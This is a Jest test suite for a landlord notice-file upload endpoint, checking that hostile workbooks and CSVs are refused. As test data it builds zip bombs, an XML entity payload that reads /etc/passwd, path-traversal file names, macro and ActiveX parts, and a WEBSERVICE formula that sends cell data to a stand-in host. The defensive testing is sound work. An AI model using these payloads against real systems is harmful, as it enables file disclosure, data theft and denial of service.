// Hostile and honest files at the landlords' door: what is unsafe is refused before it can do harm, the rest is read as meant.
import { afterAll, afterEach, beforeAll, describe, expect, test } from '@jest/globals'
import type { NoticeFile } from '../../shared/domain/notice-file.ts'
import { READING_LIMITS, checkUploadedFile, readUploadedFile } from '../../shared/read-file.ts'
import { openApi, type Api, type Answer } from '../support/api.ts'
import { fileOf, row, windows } from '../support/landlord-file.ts'
import {
  byHand,
  cells,
  faults,
  heading,
  sheetOf,
  templateRows,
  workbookOf,
  workbookParts,
  zipOf,
  type Cell,
  type Part,
} from '../support/workbook-file.ts'

let api: Api
beforeAll(async () => {
  api = await openApi()
})
afterAll(() => api.stop())

const LIMITS = { ...READING_LIMITS }
afterEach(() => void Object.assign(READING_LIMITS, LIMITS))

async function upload(
  bytes: Buffer,
  name = 'november.xlsx',
  headers: Record<string, string> = {},
): Promise<Answer> {
  const head = `--grens\r\nContent-Disposition: form-data; name="file"; filename="${name}"\r\nContent-Type: application/octet-stream\r\n\r\n`
  const raw = Buffer.concat([Buffer.from(head), bytes, Buffer.from('\r\n--grens--\r\n')])
  const type = { 'content-type': 'multipart/form-data; boundary=grens' }
  return api.call('/v1/notice-files', { as: 'landlord', raw, headers: { ...type, ...headers } })
}

const files = async (): Promise<number> => {
  const { count } = await api.owner
    .selectFrom('noticeFile')
    .select(({ fn }) => fn.countAll<number>().as('count'))
    .executeTakeFirstOrThrow()
  return count
}

/** Refused at the door: a sentence that says what to do, nothing kept, never a 5xx. */
async function expectRefused(bytes: Buffer, code: string, name?: string, status = 400): Promise<void> {
  const before = await files()
  const answer = await upload(bytes, name)
  expect([answer.status, answer.body.code]).toEqual([status, code])
  expect(answer.body.errors[0].detail).toMatch(/\. \p{Lu}/u)
  expect(await files()).toBe(before)
}

const read = (bytes: Buffer, name = 'november.xlsx'): Promise<NoticeFile> => readUploadedFile({ bytes, name })
const plain = sheetOf([heading, cells()])

describe('U1 a zip bomb', () => {
  const bomb = `<sheetData>${' '.repeat(60 * 1024 * 1024)}</sheetData>`

  test('is refused by what its directory says, before anything is unpacked', async () => {
    const bytes = byHand(bomb)
    expect(bytes.length).toBeLessThan(100_000)
    const started = process.memoryUsage().rss
    await expectRefused(bytes, 'file.swells')
    expect(process.memoryUsage().rss - started).toBeLessThan(40 * 1024 * 1024)
  })

  test('that lies about its size is stopped while it swells', async () => {
    const parts = workbookParts([bomb]).map((part) => ({ ...part, claims: 900 }))
    await expectRefused(zipOf(parts), 'file.swells')
  })
})

describe('U2 an archive that is no workbook’s', () => {
  test.each<[string, () => Buffer, string]>([
    [
      'of 300 parts',
      () =>
        byHand(
          plain,
          Array.from({ length: 300 }, (_, n) => ({ name: `xl/m${n}.xml`, text: '<a/>' })),
        ),
      'file.swells',
    ],
    [
      'whose parts lie over each other',
      () => byHand(plain, [{ name: 'xl/b.xml', text: '<a/>', overlaps: true }]),
      'file.damaged',
    ],
    ['with one part twice', () => byHand(plain, [{ name: 'xl/Workbook.xml', text: '<a/>' }]), 'file.damaged'],
    [
      'whose sums do not add up',
      () => byHand(plain, [{ name: 'xl/b.xml', text: '<a/>', sum: 1 }]),
      'file.damaged',
    ],
    ['cut off', () => byHand(plain).subarray(0, -40), 'file.damaged'],
    ['whose bytes are torn', () => torn(byHand(plain)), 'file.damaged'],
  ])('%s is refused', async (_what, make, code) => expectRefused(make(), code))

  function torn(bytes: Buffer): Buffer {
    const broken = Buffer.from(bytes)
    broken.fill(0xff, 80, 130)
    return broken
  }
})

describe('U3 XML that swells or looks at files', () => {
  const laughs = '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;"><!ENTITY f SYSTEM "file:///etc/passwd">]>'
  test.each<[string, Part]>([
    ['a document type with entities', { name: 'xl/sharedStrings.xml', text: `${laughs}<sst/>` }],
    [
      'the same in UTF-16, where no search finds it',
      { name: 'xl/styles.xml', text: Buffer.from(`\uFEFF${laughs}<a/>`, 'utf16le') },
    ],
  ])('is refused: %s', async (_what, part) => expectRefused(byHand(plain, [part]), 'file.entities'))
})

describe('U4 names that climb', () => {
  test('a part that climbs out of its folder is refused', async () => {
    await expectRefused(byHand(plain, [{ name: '../../../tmp/bokvar.xml', text: '<a/>' }]), 'file.damaged')
  })

  test('the file’s own name is only ever shown, never a path', async () => {
    const answer = await upload(byHand(plain), '../../../etc/cron.d/x.xlsx')
    expect(answer.status).toBe(202)
    const report = await api.call(`/v1/notice-files/${answer.body.id}`, { as: 'landlord' })
    expect(report.body.fileName).not.toContain('/')
  })
})

describe('U5 what can act', () => {
  test.each([
    'xl/vbaProject.bin',
    'xl/externalLinks/externalLink1.xml',
    'xl/embeddings/oleObject1.bin',
    'xl/activeX/activeX1.xml',
    'xl/macrosheets/sheet1.xml',
    'xl/connections.xml',
  ])('a workbook with %s is refused', async (name) =>
    expectRefused(byHand(plain, [{ name, text: '<a/>' }]), 'file.active'),
  )

  test('a workbook of the kind that may hold macros is refused, whatever its name', async () => {
    const parts = workbookParts([plain])
    parts[0]!.text =
      '<Types><Override ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/></Types>'
    await expectRefused(zipOf(parts), 'file.active')
  })

  test('a formula is not computed and its kept value not believed: the row comes back', async () => {
    const formula = { xml: '<f>WEBSERVICE("http://elak.example/"&amp;D2)</f><v>8450</v>' }
    const file = await read(
      byHand(sheetOf([heading, cells({ belopp: formula }), cells({ egen_referens: 'H-2' })])),
    )
    expect(faults(file)).toEqual([[2, 'belopp', 'formula']])
    expect(file.groups).toHaveLength(1)
  })
})

describe('U6 a name that says one thing and bytes that say another', () => {
  test.each<[string, () => Promise<Buffer> | Buffer, string, string, number]>([
    ['CSV called .xlsx', () => Buffer.from(fileOf(row())), 'maj.xlsx', 'file.type-differs', 415],
    ['a page called .xls', () => Buffer.from('<html><table>'), 'maj.xls', 'file.type-differs', 415],
    ['a workbook called .csv', () => byHand(plain), 'maj.csv', 'file.type-differs', 415],
    [
      'another archive',
      () => zipOf([{ name: 'word/document.xml', text: '<a/>' }]),
      'maj.xlsx',
      'file.not-workbook',
      415,
    ],
    ['the old format', () => Buffer.from('d0cf11e0a1b11ae10000', 'hex'), 'maj.xls', 'file.old-excel', 415],
    [
      'a locked workbook',
      () =>
        Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.from('EncryptedPackage', 'utf16le')]),
      'maj.xlsx',
      'file.locked',
      400,
    ],
  ])('is refused with what to do: %s', async (_what, make, name, code, status) =>
    expectRefused(await make(), code, name, status),
  )

  test('a PDF is kept as it came and said to be one', async () => {
    expect((await read(Buffer.from('%PDF-1.7\n'), 'maj')).problem).toMatchObject({ code: 'file_is_pdf' })
  })
})

describe('U9 text files', () => {
  const many = Array.from({ length: 1_500 }, (_, n) =>
    row({ egen_referens: `H-${n}`, adress: `Åvägen ${n}` }),
  )

  test('a large one in Windows-1252 is read apart, while this process goes on', async () => {
    let ticks = 0
    const ticking = setInterval(() => ticks++, 1)
    const file = await read(Buffer.from(windows(fileOf(...many))), 'maj.csv')
    clearInterval(ticking)
    expect([file.encoding, file.groups.length, file.groups[9]?.body.dwelling?.address]).toEqual([
      'windows-1252',
      1_500,
      'Åvägen 9',
    ])
    expect(ticks).toBeGreaterThan(20)
  })

  test('an open quote in a large one holds the whole file and names the row', async () => {
    const rows = many.with(700, row({ hyresgast_namn: '"Åsa Öberg' }))
    const file = await read(Buffer.from(fileOf(...rows)), 'maj.csv')
    expect([file.problem?.code, file.problem?.row, file.groups.length]).toEqual(['quote_unclosed', 702, 0])
  })

  test('a line of ten million letters is stopped at the door', async () => {
    const answer = await upload(Buffer.alloc(10_000_000, 'a'), 'maj.csv')
    expect([answer.status, answer.body.code]).toEqual([413, 'too-large'])
  })
})

describe('U12 too much', () => {
  test('10,001 rows, or one cell at the far corner, hold the file', async () => {
    const corner = '<sheetData><row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>'
    expect((await read(byHand(corner))).problem?.code).toBe('file_too_large')
    const long = await workbookOf(Array.from({ length: 10_002 }, (): Cell[] => ['typ']))
    expect((await read(long)).problem?.code).toBe('file_too_large')
  })

  test('a process that takes too much time or memory is ended, and the file refused', async () => {
    const bytes = await workbookOf(
      templateRows(Array.from({ length: 3_000 }, (_, n) => ({ egen_referens: `H-${n}` }))),
    )
    READING_LIMITS.timeMs = 30
    expect((await read(bytes)).problem?.code).toBe('file_too_heavy')
    expect(await checkUploadedFile({ bytes, name: null })).toBe('file_too_heavy')
    Object.assign(READING_LIMITS, LIMITS, { memoryMb: 8 })
    expect((await read(bytes)).problem?.code).toBe('file_too_heavy')
  })

  test('more at once than there is room for wait, and beyond that are told to come again', async () => {
    Object.assign(READING_LIMITS, { atOnce: 1, waiting: 1 })
    const bytes = byHand(plain)
    const all = await Promise.allSettled([1, 2, 3].map(() => read(bytes)))
    expect(all.map(({ status }) => status)).toEqual(['fulfilled', 'fulfilled', 'rejected'])
  })
})

describe('U13 the same file twice, or killed half-way', () => {
  test('gives each notice once', async () => {
    const bytes = await workbookOf(
      templateRows([1, 2, 3].map((n) => ({ egen_referens: `U13-${n}`, adress: `Tvågatan ${n}` }))),
    )
    const ids = [(await upload(bytes)).body.id, (await upload(bytes)).body.id] as string[]
    const { errand } = api.handlers['notice-file.received'] as { errand: (ids: string[]) => Promise<unknown> }
    // Two workers on the one file, as after a lease that ran out.
    await Promise.all([errand([ids[0]!]), errand([ids[0]!])])
    await errand(ids)
    const [one, two] = await Promise.all(
      ids.map((id) => api.call(`/v1/notice-files/${id}`, { as: 'landlord' })),
    )
    expect(one?.body).toMatchObject({ state: 'done', accepted: 3, duplicates: 0 })
    expect(two?.body).toMatchObject({ state: 'done', accepted: 0, duplicates: 3 })
  })
})

test('5,000 rows of the template give the same notices, errors and repeats from Excel as from CSV', async () => {
  const changes = Array.from({ length: 5_000 }, (_, n) => ({
    egen_referens: `L-${Math.floor(n / 2)}`,
    period: n % 2 === 0 ? '2026-11' : '2026-12',
    hyresgast_namn: `Anna Prov${Math.floor(n / 2)}`,
    belopp: n === 77 ? 'mycket' : '8450,50',
    forfallodag: n === 2_000 ? '2026-11-31' : '2026-11-30',
  }))
  const text = await read(Buffer.from(fileOf(...changes.map((change) => row(change)))), 'l.csv')
  const sheet = await read(await workbookOf(templateRows(changes)), 'l.xlsx')
  expect(sheet.groups).toEqual(text.groups)
  expect([sheet.errors, sheet.repeats, sheet.rows]).toEqual([text.errors, text.repeats, text.rows])
  expect(text.groups).toHaveLength(2_498)
})

test('what is sent as Excel by the interface is read by the worker, with what should be known of it', async () => {
  const bytes = byHand(
    sheetOf([heading, cells({ egen_referens: 'API-1', adress: 'Provvägen 9' })], { 2: 'hidden="1"' }),
  )
  const answer = await upload(bytes, 'lista.xlsx')
  expect(answer.status).toBe(202)
  const { errand } = api.handlers['notice-file.received'] as { errand: (ids: string[]) => Promise<unknown> }
  await errand([answer.body.id])
  const report = await api.call(`/v1/notice-files/${answer.body.id}`, { as: 'landlord' })
  expect(report.body).toMatchObject({ state: 'done', accepted: 1, rejected: 0 })
  expect(report.body.remarks).toEqual([{ code: 'rows_hidden', detail: expect.stringContaining('Rad 2') }])
})
